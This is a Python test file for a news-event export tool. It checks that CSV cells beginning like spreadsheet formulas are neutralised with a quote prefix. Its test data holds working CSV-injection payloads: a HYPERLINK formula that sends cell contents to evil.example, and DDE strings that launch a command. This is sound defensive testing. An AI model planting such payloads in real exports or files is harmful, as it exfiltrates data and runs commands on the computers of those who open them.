"""Hostile text in exports: CSV cells that a spreadsheet would run as formulas are neutralised."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from elasticsearch import Elasticsearch

from khabar.app.export import Format, export
from khabar.core.records import EventMention, Location, Perpetrator
from khabar.core.settings import Settings
from khabar.index.store import Store
from khabar.index.writer import BulkWriter

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("fmt", ["csv", "gtd-csv"])
def test_csv_cells_starting_like_formulas_are_prefixed_with_a_quote(settings: Settings, es: Elasticsearch, fmt: Format) -> None:
    with BulkWriter(es, settings, refresh="wait_for") as writer:
        for n, text in enumerate(HOSTILE):
            mention = EventMention(article_id=f"a{n}", position=0, date=date(2025, 3, 4), event_type="bombing",
                                   article_url=f"http://x/{n}.html", title=text, outlet=text,
                                   location=Location(country="Pakistan", place=text), perpetrator=Perpetrator(name=text))
            writer.index("events", mention.id, mention)
    buffer = io.StringIO()
    assert export(Store(es, settings), buffer, what="events", fmt=fmt) == len(HOSTILE)
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue(), newline="")))
    cells = [value for row in rows for value in row.values() if value]
    for text in HOSTILE:
        assert text not in cells
    column = "gname" if fmt == "gtd-csv" else "perpetrator"
    assert len(rows) == len(HOSTILE)  # a bare CR in a cell does not break the row either
    assert sorted(row[column] for row in rows) == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
